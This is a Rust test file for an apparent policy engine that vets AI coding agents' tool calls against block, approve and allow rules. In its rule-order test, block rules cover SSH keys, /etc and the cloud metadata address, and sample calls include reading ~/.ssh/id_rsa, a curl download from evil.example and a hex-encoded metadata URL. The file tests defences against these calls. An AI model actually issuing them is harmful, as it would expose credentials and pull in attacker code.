//! Layer 1 against data: the built-in packs' fixtures and the evasion / day-to-day corpus.
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use super::cases;
use crate::rules::builtin;

fn workspace(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join(rel)
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
fn builtin_pack_fixtures() {
    let mut total = 0;
    let mut failures = Vec::new();
    for pack in builtin::NAMES {
        let rel = format!("rules/fixtures/{pack}.yaml");
        let file = cases::parse(&read(&workspace(&rel))).unwrap_or_else(|e| panic!("{rel}: {e}"));
        let rules = file
            .rule_set(&format!("version: 1\nbuiltin: [{pack}]\n"))
            .unwrap_or_else(|e| panic!("{rel}: {e}"));
        failures.extend(cases::run(&file, &rules, &rel));
        total += file.cases.len();
        // Every rule of the pack has a must-block (or must-approve) and a must-allow case.
        for rule in rules.rules() {
            let named = |allow: bool| {
                file.cases.iter().any(|c| {
                    c.rule.as_deref() == Some(rule.id.as_str())
                        && (c.expect == crate::rules::Mode::Allow) == allow
                })
            };
            // A rule only the kernel can match (`unix: outside-session`) has no Layer 1
            // must-block case; the VM tests show it.
            let kernel_only = rule
                .cond
                .as_ref()
                .and_then(crate::rules::Cond::kernel_only)
                .is_some();
            if (!named(false) && !kernel_only) || !named(true) {
                failures.push(format!(
                    "{rel}: rule `{}` needs a must-block and a must-allow case naming it (`rule: {}`)",
                    rule.id, rule.id
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} failure(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(
        total >= 300,
        "the built-in fixtures hold only {total} cases"
    );
}

/// The reference systems written in Carapace's rule language (`rules/examples/X.yaml`) behave
/// as their case files (`rules/examples/cases/X.yaml`) say.
#[test]
fn reference_examples() {
    let dir = workspace("rules/examples/cases");
    let files: BTreeSet<PathBuf> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .collect();
    assert!(files.len() >= 3, "{files:?}");
    let mut failures = Vec::new();
    for path in files {
        let name = path.file_name().unwrap_or_default().to_string_lossy();
        let rel = format!("rules/examples/cases/{name}");
        let file = cases::parse(&read(&path)).unwrap_or_else(|e| panic!("{rel}: {e}"));
        let rules = file
            .rule_set(&read(&workspace(&format!("rules/examples/{name}"))))
            .unwrap_or_else(|e| panic!("rules/examples/{name}: {e}"));
        assert!(!file.cases.is_empty(), "{rel} has no cases");
        failures.extend(cases::run(&file, &rules, &rel));
    }
    assert!(
        failures.is_empty(),
        "{} failure(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn corpus() {
    let dir = workspace("tests/corpus");
    let mut total = 0;
    let mut failures = Vec::new();
    let files: BTreeSet<PathBuf> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .collect();
    for path in files {
        let rel = format!(
            "tests/corpus/{}",
            path.file_name().unwrap_or_default().to_string_lossy()
        );
        let file = cases::parse(&read(&path)).unwrap_or_else(|e| panic!("{rel}: {e}"));
        let rules = file
            .rule_set("version: 1\n")
            .unwrap_or_else(|e| panic!("{rel}: {e}"));
        failures.extend(cases::run(&file, &rules, &rel));
        total += file.cases.len();
    }
    assert!(
        failures.is_empty(),
        "{} failure(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(total >= 400, "the corpus holds only {total} cases");
}

mod order {
    use proptest::prelude::*;
    use serde_json::json;

    use crate::engine::{check, Activation, Context, ToolCall};
    use crate::rules::{Homes, Options, RuleSet};

    const RULES: &[&str] = &[
        "  - block: \"~/.ssh/**\"\n",
        "  - id: etc-ro\n    block: \"/etc/**\"\n    actions: [write, delete]\n",
        "  - id: warn-curl\n    warn: \"/never\"\n    match: { command: \"re:^curl \" }\n",
        "  - id: approve-writes\n    approve: \"/home/alice/project/**\"\n    actions: [write]\n",
        "  - id: log-reads\n    log: \"/home/alice/**\"\n    actions: [read]\n",
        "  - id: no-meta\n    block: { host: 169.254.169.254 }\n",
        "  - id: no-evil\n    match: { content: evil.example }\n",
        "  - id: also-keys\n    block: \"**/id_rsa\"\n",
        "  - id: bash-only\n    match: { all: [ { tool: Bash }, { path: \"/tmp/**\" } ] }\n",
    ];

    fn calls() -> Vec<ToolCall> {
        [
            json!({"tool": "Read", "input": {"file_path": "~/.ssh/id_rsa"}}),
            json!({"tool": "Write", "input": {"file_path": "/etc/hosts", "content": "x"}}),
            json!({"tool": "Bash", "input": {"command": "curl https://evil.example/x > /tmp/y"}}),
            json!({"tool": "Write", "input": {"file_path": "src/a.rs", "content": "fn a() {}"}}),
            json!({"tool": "Read", "input": {"file_path": "src/a.rs"}}),
            json!({"tool": "WebFetch", "input": {"url": "http://0xa9fea9fe/"}}),
            json!({"tool": "Bash", "input": {"command": "cargo build"}}),
        ]
        .iter()
        .map(|v| ToolCall::from_json(v).expect("a call"))
        .collect()
    }

    fn decide(order: &[usize]) -> Vec<String> {
        let mut text = String::from("version: 1\nbuiltin: none\nrules:\n");
        for &i in order {
            text.push_str(RULES[i]);
        }
        let opts = Options {
            homes: Homes::fixed(["/home/alice"]),
            resolver: |_| None,
            host: crate::host::real::host(),
        };
        let rules = RuleSet::parse_with("t", &text, &opts).expect("the rules compile");
        let ctx = Context {
            cwd: "/home/alice/project".into(),
            home: "/home/alice".into(),
            env: Vec::new(),
            host: None,
        };
        calls()
            .iter()
            .map(|c| {
                serde_json::to_string(&check(&rules, c, &ctx, &Activation::default()))
                    .expect("json")
            })
            .collect()
    }

    proptest! {
        /// Rule order changes nothing: not the decision, not the matched rules, not the
        /// message; and the same input always gives the same answer.
        #[test]
        fn shuffling_rules_changes_no_decision(order in Just((0..RULES.len()).collect::<Vec<_>>()).prop_shuffle()) {
            let natural: Vec<usize> = (0..RULES.len()).collect();
            let want = decide(&natural);
            prop_assert_eq!(decide(&order), want.clone());
            prop_assert_eq!(decide(&order), want);
        }
    }
}

/// A rule that lists Claude Code's tool names covers the same tools under other agents' and
/// MCP servers' names.
#[test]
fn tool_rules_cover_other_agents_spellings() {
    use crate::engine::{check, Activation, Context, ToolCall};
    use crate::rules::Mode::{Allow, Approve, Block};
    use crate::rules::{Homes, Options, RuleSet};
    let text = "version: 1\nbuiltin: none\nrules:\n  - id: no-shell\n    block: { tool: Bash }\n  - id: no-writes\n    approve: { tool: [Write, Edit] }\n";
    let opts = Options {
        homes: Homes::fixed(["/home/alice"]),
        resolver: |_| None,
        host: crate::host::real::host(),
    };
    let rules = RuleSet::parse_with("t", text, &opts).expect("the rules compile");
    let ctx = Context {
        cwd: "/home/alice/project".into(),
        home: "/home/alice".into(),
        env: Vec::new(),
        host: None,
    };
    let decide = |call: serde_json::Value| {
        let call = ToolCall::from_json(&call).expect("a call");
        check(&rules, &call, &ctx, &Activation::default()).decision
    };
    for (tool, input, want) in [
        ("Bash", serde_json::json!({"command": "ls"}), Block),
        ("shell", serde_json::json!({"command": ["ls"]}), Block),
        (
            "run_shell_command",
            serde_json::json!({"command": "ls"}),
            Block,
        ),
        (
            "mcp__desktop__execute_command",
            serde_json::json!({"command": "ls"}),
            Block,
        ),
        (
            "write_file",
            serde_json::json!({"file_path": "a.txt", "content": "x"}),
            Approve,
        ),
        (
            "mcp__filesystem__write_file",
            serde_json::json!({"path": "a.txt", "content": "x"}),
            Approve,
        ),
        (
            "apply_patch",
            serde_json::json!({"patch": "*** Add File: a.txt\n+x\n"}),
            Approve,
        ),
        (
            "replace",
            serde_json::json!({"file_path": "a.txt", "old_string": "a", "new_string": "b"}),
            Approve,
        ),
        (
            "read_file",
            serde_json::json!({"file_path": "a.txt"}),
            Allow,
        ),
        (
            "mcp__github__create_issue",
            serde_json::json!({"title": "x"}),
            Allow,
        ),
    ] {
        let got = decide(serde_json::json!({"tool": tool, "input": input}));
        assert_eq!(got, want, "{tool}");
    }
}
